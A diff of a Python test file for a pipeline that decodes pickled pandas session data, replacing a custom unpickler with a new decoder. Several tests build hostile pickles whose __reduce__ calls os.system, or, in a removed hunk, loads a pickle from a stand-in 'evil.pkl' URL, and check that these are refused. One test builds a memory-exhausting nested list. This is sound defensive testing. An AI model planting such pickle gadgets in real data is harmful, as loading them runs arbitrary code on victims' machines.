@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import io
 import os
 import pickle
 from collections.abc import Iterator
@@ -12,7 +13,8 @@ from table_harness import BEHAVIOR_BUCKET, Harness, mocked_aws
 
 from bdc_local.corpus import generate_corpus
 from bdc_local.sources import foraging_sessions_pickle
-from bdc_sync.framework import MalformedLog, MissingInput
+from bdc_sync.framework import MalformedLog, MissingInput, UnusableInput
+from bdc_sync.sessions_decoder import decode_sessions
 from bdc_sync.tables import foraging_sessions
 
 KEY = foraging_sessions.SESSIONS_KEY
@@ -77,37 +79,24 @@ EXPECTED = [
 
 def test_rows_of_a_frame() -> None:
     malformed = MalformedLog()
-    rows = foraging_sessions.session_rows(sessions_frame(), malformed)
+    rows = foraging_sessions.session_rows(decode_sessions(pickle.dumps(sessions_frame())), malformed)
     foraging_sessions.normalize_trainers(rows)
     assert rows == EXPECTED
     assert malformed.count == 1
-    assert malformed.sample[0]["id"] == "700001/2024-02-02 00:00:00/8/91500"
+    assert malformed.sample[0]["id"] == "700001/2024-02-02/8/91500"
 
 
-def test_unpickler_loads_frames_and_refuses_code() -> None:
+def test_containers_in_text_columns_are_malformed_not_printed() -> None:
     frame = sessions_frame()
-    frame[("metadata", "when")] = pd.to_datetime(["2024-01-02", None, "2024-02-01", "2024-02-02"], utc=True)
-    frame[("metadata", "kind")] = pd.Categorical(["a", "b", "a", "b"])
-    frame[("metadata", "blob")] = pd.Series([{"a": 1}, [1], None, "x"], index=frame.index, dtype=object)
-    for protocol in (2, 4, 5):
-        loaded = foraging_sessions.load_frame(pickle.dumps(frame, protocol=protocol))
-        pd.testing.assert_frame_equal(loaded, frame)
-
-    class RunsCode:
-        def __reduce__(self) -> tuple:
-            return (os.system, ("echo this must not run",))
-
-    with pytest.raises(foraging_sessions.UnsafePickle, match="system"):
-        foraging_sessions.load_frame(pickle.dumps(RunsCode()))
-
-    class ReadsAnotherPickle:
-        def __reduce__(self) -> tuple:
-            return (pd.read_pickle, ("https://example.com/evil.pkl",))
-
-    with pytest.raises(foraging_sessions.UnsafePickle, match="read_pickle"):
-        foraging_sessions.load_frame(pickle.dumps(ReadsAnotherPickle()))
-    with pytest.raises(ValueError, match="expected a DataFrame"):
-        foraging_sessions.load_frame(pickle.dumps([1, 2, 3]))
+    nested: list = ["x" * 1000]
+    for _ in range(3):
+        nested = [nested] * 60  # str() of it would be ~200 MB
+    frame[("metadata", "rig")] = pd.Series([nested, {"a": 1}, None, "x"], index=frame.index, dtype=object)
+    malformed = MalformedLog()
+    rows = foraging_sessions.session_rows(decode_sessions(pickle.dumps(frame)), malformed)
+    assert [row["session"] for row in rows] == [7]  # None is a null; the 4th has 100.5 trials
+    assert malformed.count == 3
+    assert "rig: TypeError: a list" in malformed.sample[0]["error"]
 
 
 @pytest.fixture
@@ -148,18 +137,16 @@ def test_a_pickle_that_runs_code_fails_the_build(harness: Harness) -> None:
             return (os.system, ("echo this must not run",))
 
     harness.put(BEHAVIOR_BUCKET, KEY, pickle.dumps(RunsCode()))
-    with pytest.raises(foraging_sessions.UnsafePickle):
+    with pytest.raises(UnusableInput, match=r"refused: refusing global (os|posix)\.system"):
         harness.build(foraging_sessions.TABLE)
     assert harness.etag("foraging_sessions") is None
 
 
 def test_the_local_corpus_pickle_loads() -> None:
     records = generate_corpus(400, seed=1)
-    frame = pickle.loads(foraging_sessions_pickle(records, seed=1))
+    body = foraging_sessions_pickle(records, seed=1)
     malformed = MalformedLog()
-    rows = foraging_sessions.session_rows(
-        foraging_sessions.load_frame(foraging_sessions_pickle(records, seed=1)), malformed
-    )
-    assert len(rows) == len(frame) > 0
+    rows = foraging_sessions.session_rows(decode_sessions(body), malformed)
+    assert len(rows) == len(pd.read_pickle(io.BytesIO(body))) > 0
     assert malformed.count == 0
     assert all(len(r["session_date"]) == 10 for r in rows)
